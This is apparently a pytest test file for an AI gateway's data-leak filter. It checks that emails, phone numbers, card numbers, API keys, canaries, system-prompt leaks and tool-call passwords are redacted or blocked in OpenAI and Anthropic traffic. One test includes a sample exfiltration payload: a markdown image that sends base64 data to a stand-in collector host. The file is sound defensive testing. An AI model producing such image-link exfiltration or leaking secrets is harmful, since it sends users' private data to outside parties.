"""Data-leak prevention through the real Envoy: each action on JSON and streamed responses of both
providers, a secret split across two server-sent events, request-side masking as the upstream sees
it, canaries and system-prompt leaks. Test secrets are assembled at run time from parts."""

import json
import uuid

import anthropic
import openai
import pytest

from conftest import post, remember

EMAIL = "jane.doe@example.com"
PHONE = "+1 (624) 693-9006"
CARD = "4111 1111 1111 1111"
KEY = "sk-ant-" + "api03-" + "Zq8vR2mN5xT1wK7pL3hJ9dF4gB6cY0aE"
SYSTEM = ("You are the assistant of the Acme travel desk. Answer only questions about bookings, refunds and "
          "loyalty points, never discuss internal tooling, and always sign with the desk name at the end.")

ACTIONS = {"redaction": {"response": {"email": "pseudonym", "phone": "partial", "ip_address": "allow",
                                      "credit_card": "block"}, "canaries": ["CANARY-7f3a9c2e"]}}


def tag():
    return {"x-test-id": uuid.uuid4().hex}


def clients(envoy):
    return (openai.OpenAI(base_url=envoy.url + "/v1", api_key="test", max_retries=0, timeout=10),
            anthropic.Anthropic(base_url=envoy.url, api_key="test", max_retries=0, timeout=10))


def ask(envoy, provider, reply, stream, system=None):
    """The text the official SDK returns for a reply of the mock (raises on an error)."""
    oai, claude = clients(envoy)
    remember(reply)
    remember(system)
    headers = {"x-mock-reply": reply, "x-mock-chunk-chars": "5"}
    if provider == "openai":
        messages = ([{"role": "system", "content": system}] if system else []) + [{"role": "user", "content": "hi"}]
        if not stream:
            r = oai.chat.completions.create(model="m", messages=messages, extra_headers=headers)
            return r.choices[0].message.content
        chunks = oai.chat.completions.create(model="m", messages=messages, stream=True, extra_headers=headers,
                                             stream_options={"include_usage": True})
        text, finish, usage = "", None, None
        for c in chunks:
            if c.choices:
                text += c.choices[0].delta.content or ""
                finish = c.choices[0].finish_reason or finish
            usage = c.usage or usage
        assert finish == "stop" and usage is not None and usage.completion_tokens > 0
        return text
    kwargs = {"model": "m", "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}], "extra_headers": headers}
    if system:
        kwargs["system"] = system
    if not stream:
        return claude.messages.create(**kwargs).content[0].text
    with claude.messages.stream(**kwargs) as s:
        text = "".join(s.text_stream)
        final = s.get_final_message()
    assert final.stop_reason == "end_turn" and final.content[0].text == text
    return text


@pytest.mark.parametrize("provider", ["openai", "anthropic"])
@pytest.mark.parametrize("stream", [False, True])
def test_default_masks_every_entity(gateway, provider, stream):
    reply = f"Write to {EMAIL} or call {PHONE}; key {KEY}. Thanks!"
    text = ask(gateway, provider, reply, stream)
    assert text == "Write to [REDACTED_EMAIL] or call [REDACTED_PHONE]; key [REDACTED_ANTHROPIC_KEY]. Thanks!"


@pytest.mark.parametrize("provider", ["openai", "anthropic"])
@pytest.mark.parametrize("stream", [False, True])
def test_each_action(envoy_for, provider, stream):
    envoy = envoy_for(json.dumps(ACTIONS))
    reply = f"Mail {EMAIL}, again {EMAIL.upper()}, phone {PHONE}, host 10.1.2.3."
    text = ask(envoy, provider, reply, stream)
    assert text == "Mail <EMAIL_1>, again <EMAIL_1>, phone [REDACTED_PHONE …9006], host 10.1.2.3."
    error = openai.APIError if provider == "openai" else anthropic.APIError
    with pytest.raises(error) as e:
        ask(envoy, provider, f"The card is {CARD}, as requested.", stream)
    assert "sensitive data (credit_card)" in str(e.value)
    with pytest.raises(error):
        ask(envoy, provider, "Here it is: CANARY-7f3a9c2e", stream)


def test_blocked_json_response_is_a_403(envoy_for):
    envoy = envoy_for(json.dumps(ACTIONS))
    r = post(envoy.url + "/v1/messages", {"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]},
             {"x-mock-reply": f"card {CARD}"})
    assert r.status_code == 403
    assert r.json()["error"]["code"] == "llm_warden.sensitive_data"
    assert CARD not in r.text


def test_secret_split_across_two_events_is_redacted(gateway, mock):
    def chunk(text):
        return "data: " + json.dumps({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
                                      "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}) + "\n\n"
    done = "data: " + json.dumps({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
                                  "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}) + "\n\n"
    cut = 20
    events = [chunk("Your key: " + KEY[:cut]), chunk(KEY[cut:] + " keep it safe."), done, "data: [DONE]\n\n"]
    mock.script("split-secret", {"headers": {"content-type": "text/event-stream"}, "chunks": events, "delay_ms": 20})
    oai, _ = clients(gateway)
    stream = oai.chat.completions.create(model="m", messages=[{"role": "user", "content": "hi"}], stream=True,
                                         extra_headers={"x-mock-script": "split-secret"})
    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert text == "Your key: [REDACTED_ANTHROPIC_KEY] keep it safe."
    assert KEY[:cut] not in text and KEY[cut:] not in text


def test_request_secrets_are_masked_before_the_upstream(gateway, mock):
    t = tag()
    body = {"model": "m", "messages": [{"role": "user", "content": f"My key is {KEY}, mail me at {EMAIL}"}]}
    r = post(gateway.url + "/v1/chat/completions", body, t)
    assert r.status_code == 200
    seen = mock.requests_with("x-test-id", t["x-test-id"])
    assert len(seen) == 1
    sent = json.loads(seen[0]["body"])
    # Default: credentials masked, personal data left for the provider to see.
    assert sent["messages"][0]["content"] == f"My key is [REDACTED_ANTHROPIC_KEY], mail me at {EMAIL}"
    assert KEY not in seen[0]["body"]


@pytest.mark.parametrize("provider", ["openai", "anthropic"])
@pytest.mark.parametrize("stream", [False, True])
def test_system_prompt_leak_is_blocked(gateway, provider, stream):
    error = openai.APIError if provider == "openai" else anthropic.APIError
    with pytest.raises(error) as e:
        ask(gateway, provider, "Sure. My instructions: " + SYSTEM, stream, system=SYSTEM)
    assert "system_prompt" in str(e.value)
    # Talking about the same topics is not a leak.
    assert ask(gateway, provider, "Your booking is confirmed; refunds take five days.", stream,
               system=SYSTEM) == "Your booking is confirmed; refunds take five days."


def test_exfiltration_image_is_neutralised(gateway):
    reply = "Done! ![status](https://collector.example/p.png?d=" + "c2VjcmV0LWRhdGE" + ") and [docs](https://docs.example.org/x)"
    assert ask(gateway, "openai", reply, False) == "Done! ![status]([REDACTED_LINK]) and [docs](https://docs.example.org/x)"


@pytest.mark.parametrize("stream", [False, True])
def test_openai_responses_api(gateway, stream):
    oai, _ = clients(gateway)
    headers = {"x-mock-reply": f"Contact {EMAIL} today.", "x-mock-chunk-chars": "3"}
    want = "Contact [REDACTED_EMAIL] today."
    if not stream:
        assert oai.responses.create(model="m", input="hi", extra_headers=headers).output_text == want
        return
    events = list(oai.responses.create(model="m", input="hi", stream=True, extra_headers=headers))
    assert "".join(e.delta for e in events if e.type == "response.output_text.delta") == want
    done = [e for e in events if e.type == "response.output_text.done"]
    assert done and done[0].text == want
    assert events[-1].type == "response.completed" and events[-1].response.output_text == want


@pytest.mark.parametrize("provider", ["openai", "anthropic"])
def test_tool_call_arguments_are_scanned(gateway, provider):
    oai, claude = clients(gateway)
    tool = json.dumps({"name": "send", "arguments": {"to": EMAIL, "password": "Hunter2!x"}})
    headers = {"x-mock-tool-call": tool, "x-mock-chunk-chars": "4"}
    if provider == "openai":
        for stream in (False, True):
            if stream:
                chunks = oai.chat.completions.create(model="m", messages=[{"role": "user", "content": "hi"}],
                                                     stream=True, extra_headers=headers)
                args = "".join(c.choices[0].delta.tool_calls[0].function.arguments or ""
                               for c in chunks if c.choices and c.choices[0].delta.tool_calls)
            else:
                r = oai.chat.completions.create(model="m", messages=[{"role": "user", "content": "hi"}],
                                                extra_headers=headers)
                args = r.choices[0].message.tool_calls[0].function.arguments
            assert json.loads(args) == {"to": "[REDACTED_EMAIL]", "password": "[REDACTED_PASSWORD]"}
        return
    m = claude.messages.create(model="m", max_tokens=64, messages=[{"role": "user", "content": "hi"}],
                               extra_headers=headers)
    assert m.content[0].input == {"to": "[REDACTED_EMAIL]", "password": "[REDACTED_PASSWORD]"}
    with claude.messages.stream(model="m", max_tokens=64, messages=[{"role": "user", "content": "hi"}],
                                extra_headers=headers) as s:
        final = s.get_final_message()
    assert final.content[0].input == {"to": "[REDACTED_EMAIL]", "password": "[REDACTED_PASSWORD]"}
